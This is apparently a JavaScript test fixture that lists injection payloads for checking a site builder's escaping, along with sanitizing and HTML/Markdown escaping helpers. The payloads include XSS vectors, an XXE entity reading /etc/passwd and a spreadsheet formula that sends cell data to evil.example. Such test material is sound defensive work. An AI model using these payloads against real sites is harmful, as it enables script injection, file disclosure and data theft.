// What authors may try in order to get markup or a script into a page. Each attempt sets a number of its own, so that a
// failure names the way in.

// Texts, for any field that takes one.
const ways = [
    (run) => `"><img src=x onerror=${run}>`,
    (run) => `</script></title></style></textarea></noscript></template><img src=x onerror=${run}><!--<script>`,
    (run) => `javascript:${run}`,
    (run) => `{{title}}{{{body}}}{{> head}}<script>${run}</script>`,
    (run) => `' onmouseover='${run}' autofocus onfocus='${run}`,
    (run) => `a&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
    (run) => `]]>\\"><script xmlns="http://www.w3.org/1999/xhtml">${run}//\u2028</script>`,
    (run) => `JaVaScRiPt&colon;${run}//--!><svg/onload=${run}>`,
    (run) => `\`\`onmouseover=\`${run}\` x=\`><img src=\`x\`onerror=${run}>`,
    (run) => `<svg><style><img src=x onerror=${run}></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;`,
    (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"><template><p id="</p><iframe srcdoc="<script>top.${run}</script>`,
    (run) => `\u202e${run}\u2066\u2029<bdo dir=rtl>\u200f\u061c\ufeff</bdo>\u2069`,
    (run) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;<![CDATA[${run}]]>`,
    (run) => `{title} {count} {skill} {0} :slug $& $1 \\1 \\u003cscript\\u003e %s %3Cscript%3E${run}%0D%0A%00`,
    (run) => `=HYPERLINK("https://evil.example/?"&A1) ${run} constructor __proto__ hasOwnProperty toString`,
    (run) => `data:text/html;base64,PHNjcmlwdD4= <meta http-equiv=refresh content="0;url=javascript:${run}"><base href=//evil.example/>`,
];

export const payloads = ways.map((way, i) => way(`window.PWN=${i + 1}`));

// The same letters and digits without what could be markup: names and addresses are made of these, so a site of such
// texts has the same pages under the same addresses.
export const harmless = (text) =>
    text
        .replaceAll("&", " and ")
        .replace(/[^\p{L}\p{M}\p{N}.+#]+/gu, " ")
        .trim();

// Text as Markdown that gives exactly this text.
export const escaped = (text) => text.replace(/[!-/:-@[-`{-~]/g, "\\$&");

export const inHtml = (text) =>
    text.replace(/[&<>"']/g, (character) => `&#${character.codePointAt(0)};`);

export const picture = Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
);
